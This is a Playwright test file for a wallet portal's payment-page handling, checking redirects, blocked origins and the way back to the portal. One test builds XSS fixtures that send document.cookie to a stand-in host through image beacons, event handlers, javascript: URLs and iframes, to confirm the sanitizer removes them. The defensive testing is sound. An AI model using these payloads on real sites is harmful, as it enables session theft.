import type { Page, Request, Route } from '@playwright/test'
import { expect, test, ui } from '#test/support/browser/browser.ts'
import { type PortalServer, startPortalServer } from '#test/support/browser/portal-server.ts'
import { serveSourceModules } from '#test/support/browser/source-modules.ts'
import { createSandboxControl } from '#test/support/sandbox/sandbox-control.ts'

const token = 'kept-to-ourselves'
const pay = 'https://pay.example'
const other = 'https://other.example'

let server: PortalServer
test.beforeAll(async () => {
  server = await startPortalServer({ env: { PAYMENT_ORIGINS: pay } })
})
test.afterAll(() => server.close())

declare global {
  interface Window {
    /** Whether the portal was stopped. */
    left?: boolean
    /** Ends the time that the browser has to open a page. */
    expire?: () => void
  }
}

const answerElsewhere = (route: Route) =>
  route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title><h1>Elsewhere</h1>' })

/**
 * Opens the portal under its own headers, and records its requests to other origins. After some time a portal that
 * notices a session cookie leaves the sign-in form.
 */
const openPortal = async (page: Page, { answersSession = false, hasCookie = true } = {}) => {
  const elsewhere: Request[] = []
  page.on('request', request => {
    if (!request.url().startsWith(server.origin())) elsewhere.push(request)
  })
  for (const host of [pay, other]) await page.route(`${host}/**`, answerElsewhere)
  // A tab without a session asks about a cookie that appears.
  if (!answersSession) await page.route('**/authenticate/session', () => {})
  await serveSourceModules(page, server.origin())
  await ui.openSignIn(page, server.origin())
  const url = server.origin()
  const cookie = { name: 'sessionToken', value: token, url, sameSite: 'Strict' } as const
  if (hasCookie) await page.context().addCookies([cookie])

  return {
    elsewhere,
    /** Gives a page to the port. Returns 'moved' after the browser has left the portal. */
    show: (html: string) =>
      page
        .evaluate(
          async ({ module, html }) => {
            const { createBrowserPaymentPage } = await import(module)
            const { show } = createBrowserPaymentPage(window, {
              leave: () => {
                window.left = true
              },
              home: '/dashboard',
              words: { back: 'Back to your wallet', notOpened: 'Not opened.' },
              time: {
                setTimeout: (callback: () => void) => {
                  window.expire = callback
                },
                clearTimeout: () => {},
              },
            })
            return show(html).then(
              (isShown: boolean) => (isShown ? 'shown' : 'not opened'),
              (error: unknown) => String(error),
            )
          },
          { module: '/src/ports/page/payment-page.ts', html },
        )
        .catch(() => 'moved'),
    left: () => page.evaluate(() => window.left ?? false),
  }
}

/** Returns the only request that left the portal, and checks that it contains nothing of the session. */
const onlyRequest = async (elsewhere: readonly Request[]) => {
  expect(elsewhere.map(request => request.isNavigationRequest())).toEqual([true])
  const [request] = elsewhere
  const headers = (await request?.allHeaders()) ?? {}
  const told = { method: request?.method(), url: request?.url(), body: request?.postData() }
  expect(JSON.stringify({ ...told, headers })).not.toContain(token)
  expect(Object.keys(headers)).not.toContain('referer')
  return told
}

const pageOf = (body: string, head = '') =>
  `<!doctype html><html><head><title>Payment</title>${head}</head><body>${body}</body></html>`
const formTo = (action: string, content = '<button>Pay</button>') =>
  `<form action="${action}" method="post" target="_blank">${content}</form>`
/** Fields whose names shadow properties and methods of their form. */
const fields = [
  '<input name="submit" value="a b"><input name="action" value="7">',
  ...['getAttribute', 'getAttributeNames', 'append', 'remove', 'matches', 'method'].map(
    name => `<input name="${name}">`,
  ),
].join('')
const refresh = (url: string) => `<meta http-equiv="Refresh" content="0; url=${url}">`

for (const [name, html, method, path, body] of [
  [
    'a form before all else',
    pageOf(`${formTo(` ${pay}/process `, fields)}<script>location.href='${other}/'</script>`, refresh(other)),
    'POST',
    '/process',
    'submit=a+b&action=7&getAttribute=&getAttributeNames=&append=&remove=&matches=&method=',
  ],
  ['a refresh', pageOf('<p>One moment</p>', refresh(`${pay}/go?id=7`)), 'GET', '/go?id=7', null],
  ['a script', pageOf(`<script>location.href = "${pay}/go?id=7";</script>`), 'GET', '/go?id=7', null],
] as const)
  test(`follows ${name} once`, async ({ page }) => {
    const { show, elsewhere } = await openPortal(page)
    await show(html)
    await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
    expect(await onlyRequest(elsewhere)).toEqual({ method, url: `${pay}${path}`, body })
    expect(page.context().pages()).toHaveLength(1)
  })

/** Presses a button at once: a locator would wait for the end of a navigation that was blocked. */
const pressAtOnce = (page: Page, label: string) =>
  page.evaluate(
    label => [...document.querySelectorAll('button')].find(one => one.textContent === label)?.click(),
    label,
  )

test('reports a blocked page and stays', async ({ page, problems }) => {
  problems.expect(/form-action/)
  const { show, left, elsewhere } = await openPortal(page, { hasCookie: false })
  // The name would shadow the cookies that the portal goes on reading.
  const blocked = formTo(`${other}/process`).replace('<form', '<form name="cookie"')
  expect(await show(pageOf(blocked))).toBe('not opened')
  expect(elsewhere).toEqual([])
  await page.route(`${pay}/moved`, route =>
    route.fulfill({ status: 302, headers: { location: `${other}/bank` } }),
  )
  expect(await show(pageOf(formTo(`${pay}/moved`)))).toBe('not opened')

  await page.route(`${pay}/empty`, route => route.fulfill({ status: 204 }))
  for (const html of [pageOf(formTo(`${pay}/empty`)), pageOf('', refresh(`${pay}/empty`))]) {
    await page.evaluate(() => {
      delete window.expire
    })
    const outcome = show(html)
    await page.waitForFunction(() => window.expire)
    await page.evaluate(() => window.expire?.())
    expect(await outcome).toBe('not opened')
  }
  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  expect(await page.locator('form[action]').count()).toBe(0)
  expect(await left()).toBe(false)
})

/** The colours of text and background that the browser itself has for an appearance. */
const systemColours = [
  ['light', 'rgb(0, 0, 0)', 'rgb(255, 255, 255)'],
  ['dark', 'rgb(255, 255, 255)', 'rgb(18, 18, 18)'],
] as const

/** Reads the way back at once, for the same reason. */
const readWayBack = (page: Page) =>
  page.evaluate(() => {
    const wayBack = document.querySelector('aside') ?? document.body
    const { color, backgroundColor } = getComputedStyle(wayBack)
    return { texts: wayBack.textContent, color, backgroundColor }
  })

test('shows two forms with a legible notice', async ({ page, problems }) => {
  problems.expect(/form-action/)
  await page.setViewportSize({ width: 360, height: 740 })
  const { show, elsewhere } = await openPortal(page)
  const forms = `${formTo(`${pay}/card`, '<button>Card</button>')}${formTo(`${other}/bank`, '<button>Bank</button>')}`
  const html = pageOf(`<h1>How?</h1>${forms}<script>function cancel(){location.href='${pay}/no'}</script>`)
  expect(await show(html.replace('<body', '<body bgcolor="#777777" text="#777777"'))).toBe('shown')
  await expect(page).toHaveTitle('Payment')
  expect(elsewhere).toEqual([])
  for (const [colorScheme, color, backgroundColor] of systemColours) {
    await page.emulateMedia({ colorScheme })
    await pressAtOnce(page, 'Bank')
    await expect
      .poll(() => readWayBack(page))
      .toEqual({ texts: 'Not opened.Back to your wallet', color, backgroundColor })
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360)
  }
  await pressAtOnce(page, 'Card')
  await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
  expect(await onlyRequest(elsewhere)).toMatchObject({ method: 'POST', url: `${pay}/card` })
})

test('shows a text until Back to the portal', async ({ page, problems }) => {
  problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
  const { show, left, elsewhere } = await openPortal(page, { answersSession: true })
  const text = 'We have sent a request to your bank. Approve it there.'
  const back = page.getByRole('button', { name: 'Back to your wallet' })
  for (const leave of [() => back.click(), () => page.goBack()]) {
    await page.evaluate(() => history.pushState(null, '', '#/dashboard?service=topup'))
    expect(await show(text)).toBe('shown')
    expect(await page.locator('body').innerText()).toBe(`${text}\nBack to your wallet`)
    expect(await left()).toBe(true)
    await leave()
    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  }
  const link = `<p>Press to go on.</p><a href="${pay}/go" target="_top">Go on</a>`
  await show(pageOf(`<p>Approved.</p><noscript>${link}</noscript>`))
  await expect(page.getByText('Press to go on.')).toBeVisible()
  expect(elsewhere).toEqual([])
  await page.getByRole('link', { name: 'Go on' }).click()
  await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
})

test('removes what a page runs, fetches or frames', async ({ page }) => {
  const { show, elsewhere } = await openPortal(page)
  const steal = (how: string) => `${how}='${other}/?c='+document.cookie`
  const outcome = await show(
    pageOf(
      `<h1>Payment</h1>
      <script>new Image().src='${other}/?c='+document.cookie;${steal('location.href')}</script>
      <script src="${other}/steal.js"></script>
      <img src="x" onerror="${steal('location')}"><img srcset="${other}/1.png 2x" alt="">
      <img src="http://other.example/2.png" alt="">
      <svg onload="${steal('location')}"><a href="${other}"><text>in svg</text></a></svg>
      <iframe src="${other}" srcdoc="<script>${steal('parent.location')}</script>"></iframe>
      <object data="${other}/o"></object><embed src="${other}/e"><video src="${other}/v" autoplay></video>
      <a id="script" href="javascript:${steal('location')}" ping="${other}/ping">Go</a>
      <a id="data" href="data:text/html,x">Go</a><a id="plain" href="http://other.example/">Go</a>
      <a id="relative" href="/api/network/express/wallet">Go</a><a id="other" href="${other}/x">Go</a><a id="safe" href="${pay}/x" target="_blank">Go</a>
      <div style="background:url(${other}/bg)" onmouseover="${steal('location')}" autofocus>Text</div>
      <p title='a > b'OnClick="${steal('location')}"/style="color:red" onfocus=go() class=plain>Odd</p>
      <math><mtext>in math</mtext></math><template><img src="${other}/t"></template>
      <table background="http://other.example/b"><tbody><tr><td>Cell</td></tr></tbody></table>`,
      `<base href="${other}/"><link rel="stylesheet" href="${other}/s.css"><style>body{color:red}</style>
      <meta http-equiv="Content-Security-Policy" content="form-action ${other}">
      <meta http-equiv="refresh" content="0;url=javascript:${steal('location')}">`,
    ),
  )
  expect(outcome).toBe('shown')
  await page.getByText('Text').hover()
  await page.locator('#script').click()
  await page.locator('#data').click()
  // The portal adds its button.
  await page.getByRole('complementary').evaluate(wayBack => wayBack.remove())
  const kept = await page.evaluate(() => {
    const listAttributes = (selector: string) =>
      [...document.querySelectorAll(selector)]
        .flatMap(element => element.getAttributeNames().map(name => `${name}=${element.getAttribute(name)}`))
        .join(', ')
    return {
      elements: [...new Set([...document.querySelectorAll('*')].map(one => one.localName))].sort().join(' '),
      links: listAttributes('body a'),
      others: listAttributes('body :not(a)'),
      metas: [...document.querySelectorAll('meta')].map(({ name }) => name),
      url: location.href,
    }
  })
  expect(kept).toEqual({
    elements: 'a body div h1 head html img meta p table tbody td title tr',
    links: `id=script, id=data, id=plain, id=relative, id=other, id=safe, href=${pay}/x`,
    others: 'alt=, alt=, autofocus=, title=a > b, class=plain',
    metas: ['viewport'],
    url: expect.stringContaining(server.origin()),
  })
  expect(elsewhere).toEqual([])
})

test('refuses a page without a usable target, or of an origin that is not named', async ({ page }) => {
  const { show, left, elsewhere } = await openPortal(page, { hasCookie: false })
  for (const [body, outcome] of [
    [formTo('http://pay.example/'), /Error/],
    ['<form method="post"><button>Pay</button></form>', /Error/],
    [`<script>location='${other}/?'+document.cookie</script>`, /Error/],
    ['<frameset><frame src="https://pay.example/"></frameset>', /Error/],
    [refresh(`${other}/go?id=7`), /^not opened$/],
    [`<script>location.replace("${other}/go?id=7")</script>`, /^not opened$/],
  ] as const)
    await test.step(body, async () => {
      expect(await show(pageOf(body))).toMatch(outcome)
      await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
      expect({ left: await left(), elsewhere }).toEqual({ left: false, elsewhere: [] })
    })
})

/** Properties of the document that the portal or its button could look up in a shown page. */
const shadowed = [
  ...['body', 'head', 'documentElement', 'forms', 'querySelector', 'querySelectorAll', 'getElementById'],
  ...['createElement', 'addEventListener', 'adoptNode', 'defaultView', 'location', 'cookie', 'childNodes'],
]

test('keeps the way back in a hidden page with an open dialog and shadowing names', async ({
  page,
  problems,
}) => {
  problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
  const { show } = await openPortal(page, { answersSession: true })
  const images = shadowed.map(name => `<img name="${name}" id="${name}" alt="">`)
  const forms = shadowed.map(name => formTo(`${pay}/x`).replace('<form', `<form name="${name}"`))
  const dialog = `<dialog open>${'<p>Line</p>'.repeat(40)}</dialog>`
  const hidden = ' hidden inert aria-hidden="true" popover'
  const html = pageOf([dialog, ...images, ...forms].join('')).replace(/<(?:html|body)/g, `$&${hidden}`)
  expect(await show(html)).toBe('shown')
  await expect(page).toHaveTitle('Payment')
  await page.getByRole('button', { name: 'Back to your wallet' }).click()
  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
})

/** The page of a payment service, as the whole top-up reaches it. */
for (const [html, end, heading] of [
  [formTo(`${pay}/go`) + formTo(`${pay}/no`, '<button>No</button>'), 'Pay', 'Elsewhere'],
  ['<p>One moment</p>', 'Back to your wallet', 'Dashboard'],
] as const)
  test(`a top-up leaves by "${end}" without a question`, async ({ page }) => {
    await page.route(`${pay}/**`, answerElsewhere)
    await page.route('**/wallet/topup', route =>
      route.fulfill({ contentType: 'text/html', body: pageOf(html) }),
    )
    await ui.signIn(page, server.origin(), await createSandboxControl(server.address).person())
    const dialog = await ui.openService(page, 'Top Up', 'Card', 'VISA')
    await ui.fillIn(dialog, { Amount: '100' })
    await ui.confirmOrder(dialog)
    await page.getByText(end, { exact: true }).click()
    await expect(page.getByRole('heading', { name: heading })).toBeAttached()
    if (heading === 'Dashboard') return
    // The browser's Back restores or reloads the portal.
    await page.goBack()
    await expect(dialog.getByLabel('Amount')).toHaveValue('')
  })
